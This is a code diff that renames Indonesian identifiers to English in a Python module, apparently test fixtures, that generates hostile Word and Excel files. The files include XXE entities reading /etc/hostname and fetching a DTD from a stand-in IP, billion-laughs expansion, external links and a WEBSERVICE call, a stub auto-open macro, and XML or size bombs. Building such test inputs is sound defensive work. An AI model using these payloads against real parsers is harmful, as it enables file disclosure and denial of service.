@@ -9,163 +9,164 @@ from collections.abc import Mapping
 import docx
 import openpyxl
 
-from petik.samples.hostile.texts import FORMULA, SKRIP
-from petik.samples.paper.frozen import zip_tetap
+from petik.samples.hostile.texts import FORMULA, SCRIPT
+from petik.samples.paper.frozen import fixed_zip
 
-_KEPALA = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+_HEADER = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
 _WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 _SHEET = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-_PAKET = b"http://schemas.openxmlformats.org/package/2006/relationships"
-_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-_TAWA = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
+_PACKAGE = b"http://schemas.openxmlformats.org/package/2006/relationships"
+_RELS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_LAUGHS = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
     b"<!ENTITY a%d '%b'>" % (i + 1, b"&a%d;" % i * 10) for i in range(12)
 ) + b"]>"  # fmt: skip
-_LUAR = (
+_OUTSIDE = (
     b"<!DOCTYPE x [<!ENTITY luar SYSTEM 'file:///etc/hostname'>"
     b"<!ENTITY % jauh SYSTEM 'http://192.0.2.1/x'> %jauh;]>"
 )
 
 
-_BUKU = b"openxmlformats-officedocument."
-_MAKRO = {  # content types of the main part, without and with macros
-    "docm": (_BUKU + b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"),
-    "xlsm": (_BUKU + b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"),
+_BOOK = b"openxmlformats-officedocument."
+_MACRO = {  # content types of the main part, without and with macros
+    "docm": (_BOOK + b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"),
+    "xlsm": (_BOOK + b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"),
 }
 
 
 def _docx() -> bytes:
-    wadah = io.BytesIO()
-    dokumen = docx.Document()
-    dokumen.add_paragraph("PERJANJIAN KINERJA TAHUN 2021")
-    dokumen.save(wadah)
-    return wadah.getvalue()
+    container = io.BytesIO()
+    document = docx.Document()
+    document.add_paragraph("PERJANJIAN KINERJA TAHUN 2021")
+    document.save(container)
+    return container.getvalue()
 
 
 def _xlsx() -> bytes:
-    wadah = io.BytesIO()
-    buku = openpyxl.Workbook()
-    buku.worksheets[0]["A1"] = "PERJANJIAN KINERJA TAHUN 2021"
-    buku.save(wadah)
-    return wadah.getvalue()
+    container = io.BytesIO()
+    book = openpyxl.Workbook()
+    book.worksheets[0]["A1"] = "PERJANJIAN KINERJA TAHUN 2021"
+    book.save(container)
+    return container.getvalue()
 
 
-def dengan(paket: bytes, ganti: Mapping[str, bytes]) -> bytes:
+def with_parts(package: bytes, replaced: Mapping[str, bytes]) -> bytes:
     """The package with these parts replaced or added."""
-    with zipfile.ZipFile(io.BytesIO(paket)) as lama:
-        return zip_tetap({**{nama: lama.read(nama) for nama in lama.namelist()}, **ganti})
+    with zipfile.ZipFile(io.BytesIO(package)) as old:
+        return fixed_zip({**{name: old.read(name) for name in old.namelist()}, **replaced})
 
 
-def bagian_dari(paket: bytes, nama: str) -> bytes:
-    with zipfile.ZipFile(io.BytesIO(paket)) as arsip:
-        return arsip.read(nama)
+def part_of(package: bytes, name: str) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(package)) as archive:
+        return archive.read(name)
 
 
-def _badan(isi: bytes, dtd: bytes = b"") -> bytes:
+def _body(content: bytes, dtd: bytes = b"") -> bytes:
     """word/document.xml."""
     return b'%b%b<w:document xmlns:w="%b" xmlns:r="%b"><w:body>%b</w:body></w:document>' % (
-        _KEPALA, dtd, _WORD, _REL, isi,
+        _HEADER, dtd, _WORD, _RELS, content,
     )  # fmt: skip
 
 
-def _alinea(isi: bytes) -> bytes:
-    return b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % isi
+def _paragraph(content: bytes) -> bytes:
+    return b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % content
 
 
-def _lembar(isi: bytes, dtd: bytes = b"") -> bytes:
+def _sheet(content: bytes, dtd: bytes = b"") -> bytes:
     """xl/worksheets/sheet1.xml."""
-    return b'%b%b<worksheet xmlns="%b"><sheetData>%b</sheetData></worksheet>' % (_KEPALA, dtd, _SHEET, isi)
+    return b'%b%b<worksheet xmlns="%b"><sheetData>%b</sheetData></worksheet>' % (_HEADER, dtd, _SHEET, content)
 
 
-def _sel(isi: bytes) -> bytes:
-    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>%b</t></is></c></row>' % isi
+def _cell(content: bytes) -> bytes:
+    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>%b</t></is></c></row>' % content
 
 
-def _relasi(paket: bytes, nama: str, tambahan: bytes) -> bytes:
-    return bagian_dari(paket, nama).replace(b"</Relationships>", tambahan + b"</Relationships>")
+def _relations(package: bytes, name: str, surplus: bytes) -> bytes:
+    return part_of(package, name).replace(b"</Relationships>", surplus + b"</Relationships>")
 
 
-def _luar_word(word: bytes) -> bytes:
+def _outside_word(word: bytes) -> bytes:
     """A template, a picture and a link that lie on the net."""
-    jenis = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
-    tambahan = b"".join(
-        b'<Relationship Id="rM%d" Type="%b%b" Target="http://192.0.2.1/%b" TargetMode="External"/>' % (i, jenis, n, n)
+    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    surplus = b"".join(
+        b'<Relationship Id="rM%d" Type="%b%b" Target="http://192.0.2.1/%b" TargetMode="External"/>' % (i, kind, n, n)
         for i, n in enumerate((b"attachedTemplate", b"image", b"hyperlink", b"header"))
     )
-    gambar = b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:href="rM1"/></v:shape>'
-    isi = _alinea(b"PERJANJIAN KINERJA") + gambar + b"</w:pict></w:r></w:p>"
-    nama = "word/_rels/document.xml.rels"
-    return dengan(word, {nama: _relasi(word, nama, tambahan), "word/document.xml": _badan(isi)})
+    shape = b'<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:href="rM1"/></v:shape>'
+    picture = b"<w:p><w:r><w:pict>" + shape + b"</w:pict></w:r></w:p>"
+    content = _paragraph(b"PERJANJIAN KINERJA") + picture
+    name = "word/_rels/document.xml.rels"
+    return with_parts(word, {name: _relations(word, name, surplus), "word/document.xml": _body(content)})
 
 
-def _luar_excel(excel: bytes) -> bytes:
+def _outside_excel(excel: bytes) -> bytes:
     """Cells that ask another workbook and the net."""
-    rumus = b'<row r="1"><c r="A1" t="str"><f>[1]Sheet1!A1</f><v>dari luar</v></c>'
-    rumus += b'<c r="B1" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>jaringan</v></c></row>'
-    nama = "xl/_rels/workbook.xml.rels"
-    tambahan = b'<Relationship Id="rM1" Type="%b/externalLink" Target="externalLinks/externalLink1.xml"/>' % _REL
-    tautan = b'%b<externalLink xmlns="%b" xmlns:r="%b"><externalBook r:id="rId1"/></externalLink>'
-    luar = b'<Relationship Id="rId1" Type="%b/externalLinkPath" Target="http://192.0.2.1/a.xlsx"' % _REL
-    paket = b'%b<Relationships xmlns="%b">%b TargetMode="External"/></Relationships>' % (_KEPALA, _PAKET, luar)
-    return dengan(excel, {
-        "xl/worksheets/sheet1.xml": _lembar(rumus),
-        nama: _relasi(excel, nama, tambahan),
-        "xl/externalLinks/externalLink1.xml": tautan % (_KEPALA, _SHEET, _REL),
-        "xl/externalLinks/_rels/externalLink1.xml.rels": paket,
+    fraction = b'<row r="1"><c r="A1" t="str"><f>[1]Sheet1!A1</f><v>dari luar</v></c>'
+    fraction += b'<c r="B1" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>jaringan</v></c></row>'
+    name = "xl/_rels/workbook.xml.rels"
+    surplus = b'<Relationship Id="rM1" Type="%b/externalLink" Target="externalLinks/externalLink1.xml"/>' % _RELS
+    link = b'%b<externalLink xmlns="%b" xmlns:r="%b"><externalBook r:id="rId1"/></externalLink>'
+    outside = b'<Relationship Id="rId1" Type="%b/externalLinkPath" Target="http://192.0.2.1/a.xlsx"' % _RELS
+    package = b'%b<Relationships xmlns="%b">%b TargetMode="External"/></Relationships>' % (_HEADER, _PACKAGE, outside)
+    return with_parts(excel, {
+        "xl/worksheets/sheet1.xml": _sheet(fraction),
+        name: _relations(excel, name, surplus),
+        "xl/externalLinks/externalLink1.xml": link % (_HEADER, _SHEET, _RELS),
+        "xl/externalLinks/_rels/externalLink1.xml.rels": package,
     })  # fmt: skip
 
 
-def dokumen_word(isi: bytes) -> bytes:
+def word_document(content: bytes) -> bytes:
     """A Word document with this body."""
-    return dengan(_docx(), {"word/document.xml": _badan(isi)})
+    return with_parts(_docx(), {"word/document.xml": _body(content)})
 
 
-def _bermakro(paket: bytes, bagian: str, biasa: bytes, makro: bytes) -> bytes:
-    jenis = bagian_dari(paket, "[Content_Types].xml").replace(biasa, makro)
+def _with_macro(package: bytes, part: str, usual: bytes, macro: bytes) -> bytes:
+    kind = part_of(package, "[Content_Types].xml").replace(usual, macro)
     vba = b'<Override PartName="/%b/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
-    jenis = jenis.replace(b"</Types>", vba % bagian.encode() + b"</Types>")
-    return dengan(paket, {"[Content_Types].xml": jenis, f"{bagian}/vbaProject.bin": b"Sub AutoOpen() Shell"})
+    kind = kind.replace(b"</Types>", vba % part.encode() + b"</Types>")
+    return with_parts(package, {"[Content_Types].xml": kind, f"{part}/vbaProject.bin": b"Sub AutoOpen() Shell"})
 
 
-def tabel_bersarang(dalam: int) -> bytes:
+def nested_table(inner: int) -> bytes:
     """So many tables, each within a cell of the one before."""
-    buka, tutup = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
-    return buka * dalam + _alinea(b"dalam sekali") + tutup * dalam
+    opened, closing = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
+    return opened * inner + _paragraph(b"dalam sekali") + closing * inner
 
 
-def _sel_banyak(baris: int, kolom: int) -> bytes:
+def _many_cells(row: int, column: int) -> bytes:
     """Cells of different numbers, so that they do not look like a bomb."""
-    satu = [b"".join(b"<c><v>%d</v></c>" % (b * 7919 + k) for k in range(kolom)) for b in range(baris)]
-    return b"".join(b"<row>%b</row>" % isi for isi in satu)
+    one = [b"".join(b"<c><v>%d</v></c>" % (b * 7919 + k) for k in range(column)) for b in range(row)]
+    return b"".join(b"<row>%b</row>" % content for content in one)
 
 
-def buat() -> dict[str, bytes]:
+def make() -> dict[str, bytes]:
     """The hostile Office files by name."""
     word, excel = _docx(), _xlsx()
-    badan, lembar = "word/document.xml", "xl/worksheets/sheet1.xml"
-    teks = b"".join(_alinea(t.replace("&", "&amp;").replace("<", "&lt;").encode()) for t in (SKRIP, FORMULA))
-    jauh = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
-    gabung = _lembar(jauh).replace(
+    body, sheet = "word/document.xml", "xl/worksheets/sheet1.xml"
+    text = b"".join(_paragraph(t.replace("&", "&amp;").replace("<", "&lt;").encode()) for t in (SCRIPT, FORMULA))
+    far = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    merged = _sheet(far).replace(
         b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
     )
     return {
-        "xxe.docx": dengan(word, {badan: _badan(_alinea(b"&luar;"), _LUAR)}),
-        "tawa.docx": dengan(word, {badan: _badan(_alinea(b"&a12;"), _TAWA)}),
-        "xxe.xlsx": dengan(excel, {lembar: _lembar(_sel(b"&luar;"), _LUAR)}),
-        "tawa.xlsx": dengan(excel, {lembar: _lembar(_sel(b"&a12;"), _TAWA)}),
-        "tautan_luar.docx": _luar_word(word),
-        "tautan_luar.xlsx": _luar_excel(excel),
-        "makro.docm": _bermakro(word, "word", *_MAKRO["docm"]),
-        "makro.xlsm": _bermakro(excel, "xl", *_MAKRO["xlsm"]),
-        "tabel_bersarang.docx": dengan(word, {badan: _badan(tabel_bersarang(5_000))}),
-        "tabel_dalam_tabel.docx": dengan(word, {badan: _badan(tabel_bersarang(60))}),
-        "teks_panjang.docx": dengan(word, {badan: _badan(_alinea(b"kata demi kata ") * 6_000)}),
-        "skrip.docx": dengan(word, {badan: _badan(teks)}),
-        "xml_bersarang.xlsx": dengan(excel, {lembar: _lembar(b"<a>" * 300_000 + b"</a>" * 300_000)}),
-        "sel_jauh.xlsx": dengan(excel, {lembar: _lembar(jauh)}),
-        "sel_gabung.xlsx": dengan(excel, {lembar: gabung}),
-        "sel_banyak.xlsx": dengan(excel, {lembar: _lembar(_sel_banyak(11_000, 100))}),
-        "lembar_banyak.xlsx": dengan(excel, {lembar: _lembar(_sel_banyak(100, 99))}
+        "xxe.docx": with_parts(word, {body: _body(_paragraph(b"&luar;"), _OUTSIDE)}),
+        "tawa.docx": with_parts(word, {body: _body(_paragraph(b"&a12;"), _LAUGHS)}),
+        "xxe.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"&luar;"), _OUTSIDE)}),
+        "tawa.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"&a12;"), _LAUGHS)}),
+        "tautan_luar.docx": _outside_word(word),
+        "tautan_luar.xlsx": _outside_excel(excel),
+        "makro.docm": _with_macro(word, "word", *_MACRO["docm"]),
+        "makro.xlsm": _with_macro(excel, "xl", *_MACRO["xlsm"]),
+        "tabel_bersarang.docx": with_parts(word, {body: _body(nested_table(5_000))}),
+        "tabel_dalam_tabel.docx": with_parts(word, {body: _body(nested_table(60))}),
+        "teks_panjang.docx": with_parts(word, {body: _body(_paragraph(b"kata demi kata ") * 6_000)}),
+        "skrip.docx": with_parts(word, {body: _body(text)}),
+        "xml_bersarang.xlsx": with_parts(excel, {sheet: _sheet(b"<a>" * 300_000 + b"</a>" * 300_000)}),
+        "sel_jauh.xlsx": with_parts(excel, {sheet: _sheet(far)}),
+        "sel_gabung.xlsx": with_parts(excel, {sheet: merged}),
+        "sel_banyak.xlsx": with_parts(excel, {sheet: _sheet(_many_cells(11_000, 100))}),
+        "lembar_banyak.xlsx": with_parts(excel, {sheet: _sheet(_many_cells(100, 99))}
                                       | {f"xl/worksheets/{i}.xml": b" " * 9_999_999 for i in range(20)}),
-        "sel_kendali.xlsx": dengan(excel, {lembar: _lembar(_sel(b"_x001B_[31mSASARAN_x0007__x202E_ &lt;script>"))}),
-        "bom_bagian.docx": dengan(word, {badan: b" " * (40 << 20)}),
+        "sel_kendali.xlsx": with_parts(excel, {sheet: _sheet(_cell(b"_x001B_[31mSASARAN_x0007__x202E_ &lt;script>"))}),
+        "bom_bagian.docx": with_parts(word, {body: b" " * (40 << 20)}),
     }  # fmt: skip
